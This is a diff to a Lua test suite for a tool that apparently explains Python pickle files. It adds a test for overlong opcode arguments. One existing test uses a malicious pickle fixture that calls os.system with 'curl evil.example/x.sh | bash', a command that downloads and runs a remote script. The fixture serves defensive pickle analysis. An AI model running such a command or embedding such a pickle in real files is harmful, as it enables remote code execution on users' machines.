@@ -32,6 +32,13 @@ describe("explaining a pickle", function()
     assert.is_true(ran > 500)
   end)
 
+  it("ends the disassembly where an argument is too long to show", function()
+    for _, global in ipairs { ("a"):rep(200000) .. "\nb", "a\n" .. ("b"):rep(200000), ("a"):rep(65500) .. "\n" .. ("b"):rep(65500) } do
+      local entry = assert(hugh.explain({ data = "Nc" .. global .. "\n.", name = "x.pkl" }, { opcodes = true }))
+      assert.equal(1, #entry.lines)
+    end
+  end)
+
   it("says what is called with what", function()
     local entry = assert(hugh.explain { data = "cos\nsystem\n(S'curl evil.example/x.sh | bash'\ntR.", name = "x.pkl" })
     assert.are.equal("from os import system", entry.lines[1].text)
